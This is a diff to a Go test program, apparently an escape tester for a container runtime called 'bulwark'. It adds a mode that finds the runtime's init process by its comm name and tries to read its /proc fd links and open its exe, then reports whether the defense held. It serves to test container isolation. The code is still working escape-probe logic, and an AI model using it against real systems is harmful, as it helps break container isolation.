@@ -12,10 +12,18 @@
 // when no runtime process showed up, or TIMEOUT. A runtime process that
 // showed up but whose exe could not be opened (a non-dumpable runc init
 // gives EACCES) is reported with that errno: the defense held earlier.
+//
+// With -comm NAME the target is any process whose comm is NAME (the
+// runtime's own init, "bulwark:init", which lives in the container's pid
+// namespace for a moment during exec). Then the first refusal is final
+// and reported at once, and before the exe the attacker tries to follow
+// the links in /proc/PID/fd: one that can be read is reported as
+// FDS-READABLE, because it would hand the container the runtime's files.
 package main
 
 import (
 	"bytes"
+	"errors"
 	"flag"
 	"fmt"
 	"os"
@@ -30,6 +38,7 @@ import (
 func main() {
 	timeout := flag.Duration("timeout", 30*time.Second, "give up after this long")
 	pattern := flag.String("pattern", "/proc/self/exe", "argv prefix of the runtime process to attack")
+	comm := flag.String("comm", "", "attack processes with this comm instead of matching -pattern")
 	flag.Parse()
 
 	deadline := time.Now().Add(*timeout)
@@ -48,7 +57,20 @@ func main() {
 			return
 		}
 		var err error
-		pid, fd, err = find(self, *pattern)
+		if *comm != "" {
+			pid, fd, err = findComm(self, *comm)
+			if err == errFdsReadable {
+				fmt.Println("FDS-READABLE")
+				return
+			}
+			if err != nil {
+				fmt.Fprintf(os.Stderr, "exeattack: comm %q process seen, refused: %v\n", *comm, err)
+				fmt.Println(payload.ErrnoName(err))
+				return
+			}
+		} else {
+			pid, fd, err = find(self, *pattern)
+		}
 		if err != nil {
 			denied = err
 		}
@@ -82,6 +104,63 @@ func main() {
 		}
 		time.Sleep(time.Millisecond)
 	}
+}
+
+var errFdsReadable = errors.New("fd directory readable")
+
+// findComm is find for -comm: the first process whose comm matches. Its fd
+// directory is tried first (a listing, even an empty one, would mean the
+// ptrace access check let us in), then its exe.
+func findComm(self, comm string) (int, int, error) {
+	ents, err := os.ReadDir("/proc")
+	if err != nil {
+		return 0, 0, nil
+	}
+	me := os.Getpid()
+	for _, e := range ents {
+		pid, err := strconv.Atoi(e.Name())
+		if err != nil || pid == me {
+			continue
+		}
+		c, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
+		if err != nil || strings.TrimSpace(string(c)) != comm {
+			continue
+		}
+		// Listing the directory is not enough (root owns a non-dumpable
+		// task's /proc entries); following one of its links is the leak.
+		if fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid)); err == nil {
+			for _, f := range fds {
+				_, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, f.Name()))
+				if err == nil {
+					return 0, 0, errFdsReadable
+				}
+				if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ESRCH) {
+					return 0, 0, err
+				}
+			}
+		} else if !errors.Is(err, unix.ENOENT) && !errors.Is(err, unix.ESRCH) {
+			return 0, 0, err
+		}
+		exe := fmt.Sprintf("/proc/%d/exe", pid)
+		t, err := os.Readlink(exe)
+		if err != nil {
+			if !os.IsNotExist(err) {
+				return 0, 0, err
+			}
+			continue
+		}
+		if t == self {
+			continue
+		}
+		fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
+		if err == nil {
+			return pid, fd, nil
+		}
+		if err != unix.ENOENT && err != unix.ESRCH {
+			return 0, 0, err
+		}
+	}
+	return 0, 0, nil
 }
 
 // find returns the pid and an O_PATH fd of the first matching process's
